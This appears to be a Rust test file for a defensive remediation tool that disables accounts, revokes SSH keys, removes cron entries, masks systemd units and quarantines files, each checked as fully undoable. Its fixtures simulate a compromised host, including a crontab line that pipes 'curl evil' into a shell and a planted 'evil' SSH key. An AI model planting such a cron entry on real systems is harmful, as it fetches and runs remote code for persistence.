//! Stories of accounts, keys, cron entries and units, on a root folder of their own: everything is taken back exactly.

use std::{collections::BTreeMap, fs};

use bartizan_model::{DeviceId, FileTarget, TenantId};
use uuid::Uuid;

use super::*;

const NOW: Timestamp = Timestamp::from_millis(1_790_000_000_000);

const SHADOW: &str =
    "root:*:19000:0:99999:7:::\neve:$y$j9T$abc:19001:0:99999:7:::\nbob:!:19002::::::\n";
const KEYS: &str = "# eve's keys\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGoodkeyGoodkeyGoodkeyGoodkeyGoodkeyGoodkeyG eve@laptop\nfrom=\"10.0.0.1\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBadkeyBadkeyBadkeyBadkeyBadkeyBadkeyBadkeyB evil\n";
const CRONTAB: &str = "SHELL=/bin/sh\n*/5 * * * * curl evil | sh\n0 3 * * * backup";

struct House {
    folder: tempfile::TempDir,
    remediation: Remediation,
    number: std::cell::Cell<u128>,
}

impl House {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let root = folder.path().join("root");
        for (path, text) in [
            (
                "etc/passwd",
                "root:x:0:0::/root:/bin/sh\neve:x:1234:1234::/home/eve:/bin/sh\nbob:x:1235:1:::\n",
            ),
            ("etc/shadow", SHADOW),
            ("home/eve/.ssh/authorized_keys", KEYS),
            ("var/spool/cron/crontabs/eve", CRONTAB),
            ("etc/systemd/system/evil.timer", "[Timer]\nOnCalendar=daily\n"),
            ("etc/systemd/system/evil.service", "[Service]\nExecStart=/tmp/x\n"),
            ("usr/lib/systemd/system/good.service", "[Service]\nExecStart=/bin/good\n"),
        ] {
            fs::create_dir_all(root.join(path).parent().unwrap()).unwrap();
            fs::write(root.join(path), text).unwrap();
        }
        let wants = root.join("etc/systemd/system/timers.target.wants");
        fs::create_dir(&wants).unwrap();
        std::os::unix::fs::symlink("/etc/systemd/system/evil.timer", wants.join("evil.timer"))
            .unwrap();
        let data = folder.path().join("data");
        let config = Config { data, root, proc: PathBuf::from("/proc"), network: None };
        let remediation = Remediation::open(config).unwrap();
        Self { folder, remediation, number: std::cell::Cell::new(0) }
    }

    fn path(&self, path: &str) -> PathBuf {
        self.folder.path().join("root").join(path)
    }

    fn text(&self, path: &str) -> String {
        fs::read_to_string(self.path(path)).unwrap()
    }

    /// Every file below the root and what is in it.
    fn files(&self) -> BTreeMap<PathBuf, String> {
        let mut files = BTreeMap::new();
        let mut waiting = vec![self.path("")];
        while let Some(folder) = waiting.pop() {
            for entry in fs::read_dir(folder).unwrap().flatten() {
                let kind = entry.file_type().unwrap();
                if kind.is_dir() {
                    waiting.push(entry.path());
                } else if kind.is_symlink() {
                    let target = fs::read_link(entry.path()).unwrap();
                    files.insert(entry.path(), target.display().to_string());
                } else if entry.file_name() != ".pwd.lock" {
                    files.insert(entry.path(), fs::read_to_string(entry.path()).unwrap());
                }
            }
        }
        files
    }

    fn does(&self, order: Order) -> Outcome {
        self.number.set(self.number.get() + 1);
        let command = Command {
            tenant: TenantId::from_uuid(Uuid::nil()),
            device: DeviceId::from_uuid(Uuid::nil()),
            action: ActionId::from_uuid(Uuid::from_u128(self.number.get())),
            nonce: [0; 16],
            issued_at: NOW,
            expires_at: NOW,
            order,
        };
        let outcome = self.remediation.perform(&command, NOW).unwrap();
        assert_eq!(
            self.remediation.perform(&command, NOW).unwrap(),
            outcome,
            "told twice, done once"
        );
        outcome
    }

    /// Does it, lets `changed` look at it, takes it back, and finds everything as it was.
    fn there_and_back(&self, order: Order, changed: impl FnOnce()) {
        let before = self.files();
        let outcome = self.does(order.clone());
        assert_eq!(outcome.state, OutcomeState::Succeeded, "{order}: {outcome:?}");
        assert!(outcome.undoable, "{order}");
        assert_ne!(self.files(), before, "{order}");
        changed();
        let undone = self.does(Order::Undo { action: outcome.action });
        assert_eq!(undone.state, OutcomeState::Succeeded, "{order}: {undone:?}");
        assert_eq!(self.files(), before, "{order}");
        let again = self.does(Order::Undo { action: outcome.action });
        assert_eq!(again.state, OutcomeState::Failed, "{order}: {again:?}");
    }
}

#[test]
fn an_account_is_locked_and_expired_and_gets_back_what_it_held() {
    let house = House::new();

    house.there_and_back(Order::DisableAccount { user: "eve".into() }, || {
        let shadow = house.text("etc/shadow");
        assert!(shadow.contains("eve:!$y$j9T$abc:19001:0:99999:7::1:\n"), "{shadow}");
        assert!(shadow.starts_with("root:*:19000"), "{shadow}");
    });
    // One that was locked already is locked afterwards too.
    house.there_and_back(Order::DisableAccount { user: "bob".into() }, || {});

    for user in ["root", "nobody-here"] {
        let refused = house.does(Order::DisableAccount { user: user.into() });
        assert_ne!(refused.state, OutcomeState::Succeeded);
    }
    assert_eq!(house.text("etc/shadow"), SHADOW);
}

#[test]
fn a_key_is_revoked_by_its_text_or_its_fingerprint_and_put_back() {
    let house = House::new();
    let path = "home/eve/.ssh/authorized_keys";
    let key = "AAAAC3NzaC1lZDI1NTE5AAAAIBadkeyBadkeyBadkeyBadkeyBadkeyBadkeyBadkeyB";
    let revoke = |key: &str| Order::RevokeKey { user: "eve".into(), key: key.into() };

    house.there_and_back(revoke(key), || {
        let keys = house.text(path);
        assert!(!keys.contains("evil") && keys.contains("eve@laptop"), "{keys}");
    });

    use base64::Engine as _;
    let blob = base64::engine::general_purpose::STANDARD.decode(key).unwrap();
    let hash = ring::digest::digest(&ring::digest::SHA256, &blob);
    let fingerprint = base64::engine::general_purpose::STANDARD_NO_PAD.encode(hash);
    house.there_and_back(revoke(&format!("SHA256:{fingerprint}")), || {
        assert!(!house.text(path).contains("evil"));
    });

    assert_eq!(house.does(revoke("SHA256:other")).state, OutcomeState::Failed);
}

#[test]
fn a_cron_entry_or_a_whole_crontab_is_removed_and_put_back() {
    let house = House::new();
    let path = "/var/spool/cron/crontabs/eve";
    let line = Some("*/5 * * * * curl evil | sh".into());

    house.there_and_back(Order::RemoveCronEntry { path: path.into(), line }, || {
        assert_eq!(house.text(&path[1..]), "SHELL=/bin/sh\n0 3 * * * backup");
    });
    house.there_and_back(Order::RemoveCronEntry { path: path.into(), line: None }, || {
        assert!(!house.path(&path[1..]).try_exists().unwrap());
    });
}

#[test]
fn a_unit_is_masked_and_a_timer_removed_and_both_are_put_back() {
    let house = House::new();

    // Its own file stands where the mask has to.
    house.there_and_back(Order::StopUnit { unit: "evil.service".into(), mask: true }, || {
        let mask = fs::read_link(house.path("etc/systemd/system/evil.service")).unwrap();
        assert_eq!(mask, Path::new("/dev/null"));
    });
    house.there_and_back(Order::StopUnit { unit: "good.service".into(), mask: true }, || {
        assert!(house.path("usr/lib/systemd/system/good.service").try_exists().unwrap());
    });
    house.there_and_back(Order::RemoveTimer { unit: "evil.timer".into() }, || {
        assert!(!house.files().keys().any(|path| path.ends_with("evil.timer")));
    });

    let missing = house.does(Order::RemoveTimer { unit: "none.timer".into() });
    assert_eq!(missing.state, OutcomeState::Failed);
}

#[test]
fn a_file_is_quarantined_by_its_content_and_given_back() {
    let house = House::new();
    fs::create_dir_all(house.path("tmp/deep")).unwrap();
    fs::write(house.path("tmp/deep/x"), "malware").unwrap();
    fs::write(house.path("tmp/y"), "malware").unwrap();
    let hash = ring::digest::digest(&ring::digest::SHA256, b"malware");
    let sha256 = Some(hash.as_ref().try_into().unwrap());

    house.there_and_back(Order::QuarantineFile(FileTarget { path: None, sha256 }), || {
        assert!(
            !house.path("tmp/deep/x").try_exists().unwrap()
                && !house.path("tmp/y").try_exists().unwrap()
        );
    });
    let path = Some("/tmp/y".into());
    house.there_and_back(Order::QuarantineFile(FileTarget { path, sha256: None }), || {
        assert!(
            house.path("tmp/deep/x").try_exists().unwrap()
                && !house.path("tmp/y").try_exists().unwrap()
        );
    });
}

#[test]
fn what_a_crash_interrupted_is_carried_on_with() {
    let house = House::new();
    let action = ActionId::from_uuid(Uuid::from_u128(77));
    let order = Order::DisableAccount { user: "eve".into() };
    assert_eq!(house.remediation.ledger.begin(action, &order_to_bytes(&order), NOW).unwrap(), None);

    let outcomes = house.remediation.recover(NOW).unwrap();

    assert_eq!(outcomes.len(), 1);
    assert!(house.text("etc/shadow").contains("eve:!$y$"));
    assert_eq!(house.remediation.unconfirmed().unwrap(), outcomes);
    house.remediation.confirm(action).unwrap();
    assert!(house.remediation.unconfirmed().unwrap().is_empty());
    assert!(house.remediation.recover(NOW).unwrap().is_empty());
}

#[test]
fn a_machine_that_cannot_be_isolated_says_so() {
    let house = House::new();

    let refused = house.does(Order::Release);

    assert_eq!(refused.state, OutcomeState::Refused);
    assert!(refused.summary.contains("cannot be isolated"));
}
